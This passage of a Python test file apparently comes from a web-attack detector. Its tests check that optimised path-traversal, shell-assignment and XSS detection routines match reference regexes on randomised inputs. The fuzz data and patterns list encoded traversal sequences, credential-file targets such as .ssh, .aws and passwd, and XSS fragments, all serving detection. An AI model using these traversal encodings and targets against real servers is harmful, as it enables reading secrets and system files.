    the last few, so a value with several long readings was normalised again for each analyser
    (6 times each of five 150-200 KB readings of one benign body: 60 ms of its 258). The engine
    now prepares each reading once per value."""
    import json
    from collections import Counter

    from node.detect import engine as engine_module

    pieces = [f"it's \"item {i}\" - see (a)(b) at ../docs/{i} and <a href=/x/{i}>here</a> or 1 in 2 {'x' * 300}"
              for i in range(40)]
    value = json.dumps(pieces) + " " + json.dumps({"k": pieces[:20]})
    calls: Counter[str] = Counter()
    real = engine_module.normalise

    def counted(text: str) -> str:
        calls[text] += 1
        return real(text)

    monkeypatch.setattr(engine_module, "normalise", counted)
    engine = engine_module.Engine()
    calls.clear()  # the engine's warm-up
    engine.analyze_value(json.dumps(pieces), "json.doc", "json")
    engine.analyze_value(value, "body", "body")
    assert calls and max(calls.values()) == 1, calls.most_common(3)


def test_anchored_tokens_read_back_from_the_anchor_equal_the_greedy_boundary_search() -> None:
    """ptrav._anchored_tokens finds its anchors by a str.find per anchor (the regex it replaces
    tried its alternatives at every position starting with a common letter: 19 ms on 790 KB of
    one beacon's strings) and each token's start by matching its characters on the text
    reversed, back from the anchor (not a greedy `.*[boundary]` that backtracks): the same
    anchors and tokens as the regexes, on random texts of anchors, their overlaps and prefixes,
    boundaries, token characters and long runs."""
    from node.detect import ptrav

    last_boundary = re.compile(r".*[\s\"'<>|?&=,()\[\]{}`*]", re.S)
    anchor = re.compile(r"\.\.|%(?:2e|c0%ae|e0%80%ae|u002e|252e|c0%2e)|[\uff0e\u2024]|etc|proc|\.ini|windows|winnt"
                        r"|web-inf|\.ht|\.ssh|\.aws|\.bash_|\.docker|\.kube|inetpub|secrets|var[/\\]")

    def reference(text: str) -> list[str]:
        out, end = [], 0
        for m in anchor.finditer(text):
            at = m.start()
            if at < end:
                continue
            low = max(end, at - ptrav.MAX_TOKEN_BACK)
            boundary = last_boundary.match(text, low, at)
            token = ptrav._TOKEN_RE.match(text, boundary.end() if boundary else low)
            if token is None or token.end() <= at:
                end = at + 1
                continue
            end = token.end()
            out.append(token.group(0))
        return out

    atoms = ["..", "etc", "/", "passwd", " ", '"', "=", "&", "a", "x" * 300, "y" * 700, "proc", "%2e", "\n",
             "\uff0e", "web-inf", "(", "]", "*", "é", "\\", ".ht", "var/", "winnt", ".", "%", "%c0", "%c0%", "ae",
             "2e", "%e0%80", "%u002e", "%252e", "\u2024", "win", "windows", "var", "v", ".ini", ".ssh", ".bash_",
             "inetpub", "secrets", ".docker", ".kube", ".aws", "e", "tc"]
    rng = random.Random(45)
    for _ in range(20_000):
        text = "".join(rng.choice(atoms) for _ in range(rng.randint(0, 24)))
        assert list(ptrav._anchor_starts(text)) == [m.start() for m in anchor.finditer(text)], text
        assert list(ptrav._anchored_tokens(text)) == reference(text), text


def test_shell_assignments_read_around_the_equals_signs_equal_the_whole_walk() -> None:
    """shell._assignments reads _ASSIGN_RE only around each '=': the same assignments, in the
    same order, as the regex over the whole window (names and values at their length limits,
    stretches that meet, a lookbehind on the character before a stretch)."""
    from node.detect import shell

    def whole(value: str) -> list[tuple[str, str]]:
        return shell._ASSIGN_RE.findall(value)[: shell.MAX_ASSIGNMENTS]

    rng = random.Random(7)
    units = ["a", "b", "_", "Z", "9", "=", "=", ";", " ", "&", "|", "\n", "`", "(", "x", "/", ".", "-", "$", "é",
             "\t", "ab=cd ", "$X "]
    for _ in range(20_000):
        value = "".join(rng.choice(units) for _ in range(rng.randint(0, 120)))
        assert shell._assignments(value) == whole(value), value
    for name in range(20):
        for val in range(36):
            for before in ("", " ", "x", ";"):
                for after in ("", " ", "x", ";"):
                    one = before + "a" * name + "=" + "b" * val + after
                    assert shell._assignments(one) == whole(one), one
                    assert shell._assignments((one + " ") * 20) == whole((one + " ") * 20), one


def test_shell_prose_test_equals_the_word_count_then_the_shell_characters() -> None:
    """shell._is_prose searches for a shell character first and counts words up to four: the
    same answer as counting every word, then searching."""
    from node.detect import shell

    def counted(value: str) -> bool:
        if "<" in value:
            value = shell._MARKUP_RE.sub("\n", value)
        if "&" in value:
            value = shell._ENTITY_RE.sub(" ", value)
        if "`" in value:
            value = shell._CODE_SPAN_RE.sub(" ", value)
        return len(shell._PROSE_WORD_RE.findall(value)) >= 4 and not shell._SHELL_META_RE.search(value)

    rng = random.Random(11)
    units = ["the ", "cat ", "is ", "a ", "dog. ", "`ls`", "<b>", "</b>", "&amp;", "&gt;", "|", "$x", ">", "\n",
             "hi,", "x", "  ", "ok!", "é"]
    for _ in range(20_000):
        value = "".join(rng.choice(units) for _ in range(rng.randint(0, 30)))
        assert shell._is_prose(value) == counted(value), value


def test_xss_quick_test_by_quotes_equals_the_regex() -> None:
    """xss._detect_window skips its quick regex where a quote or '&' is: each is a match of it."""
    from node.detect import xss

    for ch in "\"'`&":
        assert xss._QUICK_RE.fullmatch(ch) is not None, ch
    rng = random.Random(31)
    atoms = ["a", "on", "onload", "<", "<a", "</", "{{", "${", "/*", "script:", "data:", "\"", "'", "`", "&", " ",
             "\u017f", "\u212a", "x", "=", ">"]
    for _ in range(20_000):
        v = "".join(rng.choice(atoms) for _ in range(rng.randint(0, 8)))
        if any(c in v for c in "\"'`&"):
            assert xss._QUICK_RE.search(v) is not None, v
